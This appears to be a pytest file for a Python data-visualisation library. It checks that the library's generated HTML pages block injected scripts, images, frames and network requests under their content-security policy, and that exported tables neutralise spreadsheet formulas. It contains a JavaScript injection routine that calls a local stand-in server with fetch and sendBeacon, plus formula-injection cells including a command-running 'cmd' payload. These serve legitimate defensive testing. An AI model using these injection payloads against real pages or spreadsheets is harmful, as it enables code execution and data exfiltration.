"""Pages ask for nothing and let nothing in: held by the browser itself, whatever got into the page."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from prinfold import GTM, explore
from prinfold.cli.tables.writing import write_table
from prinfold.reporting import report

pytestmark = pytest.mark.filterwarnings("ignore::prinfold.exceptions.PrinfoldWarning")

X = np.random.default_rng(0).normal(size=(30, 3)) * [3, 2, 1]


@pytest.fixture(scope="module")
def model() -> Any:
    return GTM(nodes=4, basis=2, max_iter=2, tol=0).fit(X)


@pytest.fixture(scope="module", params=["explorer", "report", "notebook"])
def html(request: pytest.FixtureRequest, model: Any) -> str:
    page = report(model, X, None) if request.param == "report" else explore(model, X, None)
    if request.param == "notebook":
        return f"<!doctype html><title>notebook</title>{page._repr_html_()}"
    return str(page.html)


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A server that the page must not reach, and what was asked of it."""
    heard: list[str] = []

    class Server(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"window.hacked = 1")

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Server) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()
        thread.join()


def opened(browser: Any, tmp_path: Path, html: str) -> Any:
    """The frame that holds the page, once it runs."""
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    tab = browser.new_page()
    tab.goto(path.as_uri())
    frame = tab.frames[-1]
    frame.wait_for_function("window.prinfold !== undefined")
    return frame


ATTACK = """async (server) => {
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const told = [];
  document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
  add("script", { textContent: "window.hacked = 1" });
  add("script", { src: `${server}/script` });
  add("img", { src: `${server}/picture` });
  add("iframe", { src: `${server}/frame` });
  add("link", { rel: "stylesheet", href: `${server}/style` });
  add("style", { textContent: "body { visibility: hidden }" });
  add("div", { innerHTML: `<img src="${server}/inner" onerror="window.hacked = 1">` });
  try { await fetch(`${server}/fetch`); told.push("fetched"); } catch { /* refused */ }
  setTimeout("window.hacked = 1"); // eval itself is free in what a test sends
  navigator.sendBeacon(`${server}/beacon`, "x");
  await new Promise((done) => setTimeout(done, 300));
  return { hacked: window.hacked ?? null, shown: getComputedStyle(document.body).visibility, told };
}"""


def test_nothing_that_is_put_into_a_page_runs_or_is_asked_for(
    html: str, browser: Any, tmp_path: Path, outside: tuple[str, list[str]]
) -> None:
    server, heard = outside
    frame = opened(browser, tmp_path, html)
    found = frame.evaluate(ATTACK, server)
    frame.page.close()
    assert heard == []
    assert found["hacked"] is None
    assert found["shown"] == "visible"
    assert {"script-src-elem", "img-src", "frame-src", "style-src-elem", "connect-src"} <= set(found["told"])


def test_a_page_without_its_policy_would_let_all_of_it_in(
    model: Any, browser: Any, tmp_path: Path, outside: tuple[str, list[str]]
) -> None:
    """The attack is one: it is the policy that keeps it out."""
    server, heard = outside
    bare = explore(model, X, None).html.replace("Content-Security-Policy", "Nothing")
    frame = opened(browser, tmp_path, bare)
    found = frame.evaluate(ATTACK, server)
    frame.page.close()
    assert found["hacked"] == 1
    assert {"/script", "/picture", "/fetch", "/style"} <= set(heard)


def test_a_page_works_under_its_policy(model: Any, open_page: Callable[..., Any]) -> None:
    """Errors on the console and requests fail in ``open_page``."""
    tab = open_page(explore(model, X, None, values={"a": X[:, 0]}))
    z = model.transform(X)[0]
    np.testing.assert_allclose(
        tab.evaluate("z => Array.from(window.prinfold.decode(z))", z.tolist()),
        model.inverse_transform(z[None])[0],
        rtol=1e-12,
    )
    assert "gradient" in tab.locator(".pf-scale").first.evaluate("bar => getComputedStyle(bar).backgroundImage")
    open_page(report(model, X, None))


# ------------------------------------------------------------------------------------------------- cells of a table

CELLS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM",
]
CELLS += ["plain", "a=b", "-5", "+1.5e-3", "", "'=x"]
NEUTRAL = [*(f"'{each}" for each in CELLS[:10]), *CELLS[10:]]


@pytest.mark.parametrize("ending", [".csv", ".tsv", ".txt"])
def test_text_that_a_spreadsheet_would_run_is_written_as_text(ending: str, tmp_path: Path) -> None:
    numbers = -np.arange(1.0, 1 + len(CELLS)) / 7
    write_table(tmp_path / f"a{ending}", {"=head": np.array(CELLS, dtype=object), "-1": numbers})
    text = (tmp_path / f"a{ending}").read_text(encoding="utf-8")
    head, *rows = csv.reader(io.StringIO(text, newline=""), delimiter="," if ending == ".csv" else "\t")
    assert head == ["'=head", "-1"]
    assert [row[0] for row in rows] == NEUTRAL
    assert [float(row[1]) for row in rows] == numbers.tolist()


def test_so_it_is_on_the_page(model: Any, open_page: Callable[..., Any]) -> None:
    n = len(CELLS)
    labels = ["=class"] * (n - 1) + ["fine"]
    tab = open_page(
        explore(model, X[:n], None, names=CELLS, labels=labels, extra={"@more": CELLS}, values={"+v": -X[:n, 0]})
    )
    tab.evaluate("n => window.prinfold.select(Array.from({ length: n }, (_, i) => i))", n)
    rows = list(csv.DictReader(io.StringIO(tab.evaluate("window.prinfold.exportCsv()"), newline="")))
    assert [row["'@more"] for row in rows] == NEUTRAL
    assert [row["class"] for row in rows] == ["'=class"] * (n - 1) + ["fine"]
    assert [float(row["'+v"]) for row in rows] == (-X[:n, 0]).tolist()
    saved = np.array([[float(row[f"column {j + 1}"]) for j in range(3)] for row in rows])
    np.testing.assert_array_equal(saved, X[:n])
